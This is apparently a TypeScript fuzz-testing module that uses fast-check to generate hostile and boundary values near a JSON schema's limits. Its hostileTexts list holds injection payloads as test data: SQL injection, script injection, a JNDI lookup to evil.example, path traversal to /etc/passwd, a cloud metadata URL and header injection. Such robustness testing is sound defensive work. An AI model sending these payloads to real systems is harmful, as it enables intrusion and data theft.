import {
  type Arbitrary,
  array,
  boolean,
  constant,
  constantFrom,
  dictionary,
  double,
  integer,
  jsonValue,
  oneof,
  record,
  string,
} from 'fast-check'

export type JsonSchema = Record<string, unknown>

const repeatLetter = (count: number) => constant('x'.repeat(count))

/** Texts that have passed the validation of other programs; some are well-formed only in JSON. */
export const hostileTexts = oneof(
  constantFrom(
    '',
    ' ',
    '\u0000',
    'a\u0000b',
    '\ud800',
    'a\udc00b',
    '\u202egnirts',
    '\u200b',
    '\ufeff',
    'e\u0301'.repeat(50),
    '👩‍👩‍👧🏳️‍🌈',
    'ﷺ'.repeat(20),
    '\r\nset-cookie: a=b',
    '\u001b[31m',
    '../../etc/passwd',
    '%00',
    '%',
    "' or 1=1 --",
    '"; drop table people; --',
    '<script>alert(1)</script>',
    '{{7*7}}',
    '$' + '{jndi:ldap://evil.example}',
    'javascript:alert(1)',
    'http://169.254.169.254/',
    'http://[::1]:22/',
    'null',
    'undefined',
    'NaN',
    'Infinity',
    '-0',
    '1e999',
    '0x10',
    '9007199254740993',
    '99999999999999999999',
    '-1',
    '1.5',
    'true',
    '[]',
    '{}',
    '[object Object]',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '2026-02-30',
    '2026-13-45T99:99:99Z',
    '0000-00-00',
    '+275760-09-13T00:00:00.001Z',
    '-271821-04-19T23:59:59Z',
    '2026-06-01T00:00:00+99:00',
    '0'.repeat(32),
    'f'.repeat(32),
    'g'.repeat(32),
    '00000000-0000-0000-0000-000000000000',
    'a,b,,c,',
    '(((((',
    '*'.repeat(40),
    '%_%\\',
    '"unclosed',
    'a AND OR NOT NEAR/3 *',
    '==== ',
    'Bearer x',
  ),
  string({ unit: 'binary', maxLength: 24 }),
  string({ unit: 'grapheme', maxLength: 24 }),
  integer({ min: 1, max: 3000 }).chain(repeatLetter),
  repeatLetter(100_001),
)

const hostileNumbers = oneof(
  constantFrom(-1, 0, -0, 1.5, 2 ** 31, 2 ** 31 - 1, -(2 ** 31) - 1, 2 ** 53, 2 ** 53 - 1, -(2 ** 53), 1e308, 5e-324),
  constantFrom(8.64e15, 8.64e15 + 1, 1e21),
  integer(),
  double({ noNaN: true, noDefaultInfinity: true }),
)

function createNested(depth: number): unknown {
  let value: unknown = 1
  for (let level = 0; level < depth; level++) value = level % 2 ? [value] : { a: value }
  return value
}

/** Any JSON value, usually of the wrong type. */
export const hostileValues: Arbitrary<unknown> = oneof(
  { weight: 4, arbitrary: hostileTexts },
  { weight: 2, arbitrary: hostileNumbers },
  constantFrom<unknown>(null, true, false, [], {}, [[]], [null], [{}], { '': '' }, { length: 1e9 }, { toString: 1 }),
  constantFrom(20, 33, 200, 3000).map(createNested),
  integer({ min: 1, max: 2100 }).map((keys) =>
    Object.fromEntries(Array.from({ length: keys }, (_, i) => [`k${i}`, i])),
  ),
  integer({ min: 1, max: 600 }).map((items) => Array.from({ length: items }, () => 'x')),
  array(hostileTexts, { maxLength: 4 }),
  dictionary(hostileTexts, hostileTexts, { maxKeys: 3 }),
  jsonValue({ maxDepth: 3 }),
)

/** Roughly what the schema accepts, its bounds and one step beyond, with occasional hostile values. */
export function nearSchema(schema: JsonSchema, depth = 0): Arbitrary<unknown> {
  if (depth > 4) return hostileValues
  return oneof({ weight: 9, arbitrary: matchingSchema(schema, depth) }, { weight: 1, arbitrary: hostileValues })
}

function matchingSchema(schema: JsonSchema, depth: number): Arbitrary<unknown> {
  if (Array.isArray(schema.enum)) return constantFrom(...(schema.enum as unknown[]))
  if ('const' in schema) return constant(schema.const)
  const choices = (schema.anyOf ?? schema.oneOf) as JsonSchema[] | undefined
  if (choices?.length) return oneof(...choices.map((choice) => nearSchema(choice, depth + 1)))
  switch (Array.isArray(schema.type) ? schema.type[0] : schema.type) {
    case 'string':
      return textsNearBounds(schema)
    case 'integer':
    case 'number':
      return numbersNearBounds(schema)
    case 'boolean':
      return boolean()
    case 'null':
      return constant(null)
    case 'array': {
      const item = nearSchema((schema.items as JsonSchema | undefined) ?? {}, depth + 1)
      return array(item, { maxLength: 3 })
    }
    case 'object':
      return objectNearSchema(schema, depth)
    default:
      return hostileValues
  }
}

function textsNearBounds({ minLength = 0, maxLength, format }: JsonSchema): Arbitrary<unknown> {
  const plain = string({ unit: 'grapheme-ascii', maxLength: 20 })
  const min = Number(minLength)
  const max = Number(maxLength ?? 0)
  const edges = [min - 1, min, min + 1, max - 1, max, max + 1].filter((length) => length > 0 && length < 200_000)
  const atEdge = edges.length > 0 ? [constantFrom(...edges).chain(repeatLetter)] : []
  const dates = format === 'date-time' || format === 'date' ? [constantFrom('2026-02-28', '2026-06-01T10:00:00Z')] : []
  return oneof(plain, ...atEdge, ...dates, hostileTexts)
}

function numbersNearBounds({ minimum, maximum, exclusiveMinimum, exclusiveMaximum }: JsonSchema): Arbitrary<unknown> {
  const bounds = [minimum, maximum, exclusiveMinimum, exclusiveMaximum].filter((bound) => typeof bound === 'number')
  const edges = bounds.flatMap((bound) => [bound - 1, bound, bound + 1, bound + 0.5])
  return edges.length > 0 ? oneof(constantFrom(...edges), hostileNumbers) : hostileNumbers
}

function objectNearSchema(schema: JsonSchema, depth: number): Arbitrary<unknown> {
  const properties = Object.entries((schema.properties ?? {}) as Record<string, JsonSchema>)
  if (properties.length > 0)
    return record(Object.fromEntries(properties.map(([name, property]) => [name, nearSchema(property, depth + 1)])), {
      requiredKeys: [],
    })
  const values = schema.additionalProperties
  return dictionary(
    string({ unit: 'grapheme-ascii', maxLength: 12 }),
    typeof values === 'object' && values !== null ? nearSchema(values as JsonSchema, depth + 1) : hostileValues,
    { maxKeys: 4 },
  )
}
